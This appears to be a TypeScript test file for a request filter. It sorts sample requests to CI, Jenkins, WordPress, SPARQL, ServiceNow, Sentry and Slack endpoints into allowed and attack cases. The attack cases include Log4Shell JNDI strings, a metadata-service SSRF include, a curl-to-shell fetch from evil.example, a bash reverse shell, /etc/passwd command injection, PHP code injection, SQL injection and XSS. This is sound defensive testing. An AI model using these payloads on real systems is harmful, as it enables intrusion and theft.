import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const PIPELINE = 'build:\n  script:\n    - curl -sSf https://tools.example/install.sh | sh\n'
const SHELL = 'make -j4 &amp;&amp; ./test.sh\ncurl -s https://tools.example/i.sh | bash'
const JOB = `<project><builders><hudson.tasks.Shell><command>${SHELL}</command></hudson.tasks.Shell></builders></project>`
const TEMPLATE = '#set($root = $input.path(\'$\'))\n{ #foreach($e in $root.items) "id": "$e.id" #end }'
const TRIPLES =
  'SELECT ?n WHERE { ?p foaf:name ?n . FILTER(regex(?n, "^O", "i") || lang(?n) = "en") } LIMIT 10'
const BLOCK = "<!-- wp:code --><pre><code>&lt;?php echo $_GET['x']; ?&gt;</code></pre><!-- /wp:code -->"
const QUOTED = "Which of these is safe: `select * from users where id = '1' or 1=1`?"

/** Kinds of code, queries and quoted requests that one product takes at its own address. */
const KINDS: HonestKinds = {
  'jobs, pipelines and scripts of steps': {
    honest: [
      sent({ content: PIPELINE }, '/api/v4/ci/lint'),
      sent({ content: PIPELINE }, '/api/v4/projects/7/ci/lint'),
      posted('application/xml', JOB, '/createItem?name=x'),
      posted('application/xml', JOB, '/job/shop/job/main/config.xml'),
      sent({ spec: { steps: [{ name: 'x', script: 'echo x | base64 -d > /tmp/x; cat /etc/os-release' }] } }),
      sent({ properties: { commandToExecute: 'powershell -ExecutionPolicy Unrestricted -File a.ps1' } }),
    ],
    attacks: [
      sent({ content: '${jndi:ldap://evil.example/a}' }, '/api/v4/ci/lint'),
      sent({ content: 'include:\n  remote: http://169.254.169.254/latest/meta-data/' }, '/api/v4/ci/lint'),
      filled({ content: 'curl -s https://evil.example/i.sh | sh' }, '/api/v4/ci/lint'),
      posted('application/xml', JOB, '/api/items'),
      posted('application/xml', JOB, '/createItem/x'),
      posted('application/xml', JOB, '/api/createItem'),
      posted('application/json', JSON.stringify({ body: "' or 1=1--" }), '/createItem'),
      sent({ commandToExecute: "1'; cat /etc/passwd #" }),
      sent({ content: { raw: "' or 1=1--" } }, '/vuln.php/wp/v2/posts/5'),
      sent({ steps: [{ script: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' }] }),
    ],
  },
  'templates of gateways and themes, posts with code': {
    honest: [
      sent(
        { requestTemplates: { 'application/json': TEMPLATE } },
        '/restapis/a/resources/b/methods/POST/integration',
      ),
      sent({ requestMappingTemplate: TEMPLATE }, '/v1/apis/a/functions'),
      sent(
        { asset: { key: 'a.liquid', value: '<a onclick="track(1)">x</a>' } },
        '/admin/api/2026-01/themes/1/assets.json',
      ),
      sent({ title: 'x', content: BLOCK }, '/wp-json/wp/v2/posts/5'),
    ],
    attacks: [
      sent({ requestMappingTemplate: TEMPLATE }, '/api/items'),
      sent({ value: '<a onclick="track(1)">x</a>' }, '/themes/assets'),
      sent({ title: "<?php system('id'); ?>", content: 'x' }, '/wp-json/wp/v2/posts/5'),
      sent({ id: "5' UNION SELECT 1,2--", content: 'x' }, '/wp-json/wp/v2/posts/5'),
      asked('/wp-json/wp/v2/posts/5', { content: "<?php system('id'); ?>" }),
    ],
  },
  'queries of Athena, SPARQL and ServiceNow': {
    honest: [
      sent({ QueryString: "SELECT a FROM t WHERE b LIKE '%root%' UNION ALL SELECT a FROM old" }, '/'),
      posted('application/sparql-query', TRIPLES, '/sparql'),
      posted('application/sparql-query', TRIPLES, '/repositories/shop'),
      asked('/api/now/table/incident', {
        sysparm_query: 'active=true^opened_at>=javascript:gs.beginningOfLast7Days()^ORDERBYnumber',
      }),
    ],
    attacks: [
      asked('/', { QueryString: "1' UNION ALL SELECT a FROM old" }),
      ...['/search', '/api/items'].map(path =>
        sent({ QueryString: "select' UNION ALL SELECT a FROM old--" }, path),
      ),
      sent({ queryString: "1' or '1'='1" }, '/'),
      sent({ query: { QueryString: "1' or '1'='1" } }, '/'),
      sent({ body: "1' or '1'='1" }, '/sparql'),
      filled({ query: 'x" || "a"="a' }, '/sparql'),
      asked('/sparql', { q: "1' or 1=1--" }),
      asked('/a', { sysparm_query: 'javascript:gs.beginningOfLast7Days(alert(1))' }),
      asked('/a', { sysparm_query: 'javascript:gs.beginningOfLast7Days();alert(1)' }),
    ],
  },
  'reports of errors and messages that quote an attack': {
    honest: [
      sent({ request: { query_string: [['q', "' or 1=1"]] } }, '/api/7/store/'),
      sent({ exception: { values: [{ type: 'Error', value: "near ' or 1=1" }] } }, '/api/7/envelope/'),
      ...['/slack/events', '/api/slack', '/webhooks/slack-events'].flatMap(path => [
        sent({ event: { type: 'message', text: QUOTED } }, path),
        sent({ event: { blocks: [{ elements: [{ elements: [{ type: 'text', text: QUOTED }] }] }] } }, path),
      ]),
    ],
    attacks: [
      sent({ request: { query_string: '${jndi:ldap://evil.example/a}' } }, '/api/7/store/'),
      sent({ request: { query_string: "' or 1=1--" } }, '/api/store/'),
      sent({ name: "' or 1=1--" }, '/api/7/store/'),
      asked('/api/7/store/', { q: "' or 1=1--" }),
      filled({ q: "' or 1=1--" }, '/api/7/store/'),
      sent({ event: { text: '${jndi:ldap://evil.example/a}' } }, '/slack/events'),
      sent({ event: { user: "' or 1=1--" } }, '/slack/events'),
      ...['/api/items', '/events', '/slacks/events'].map(path =>
        sent({ event: { text: "' or 1=1--" } }, path),
      ),
    ],
  },
}

testKinds(KINDS)
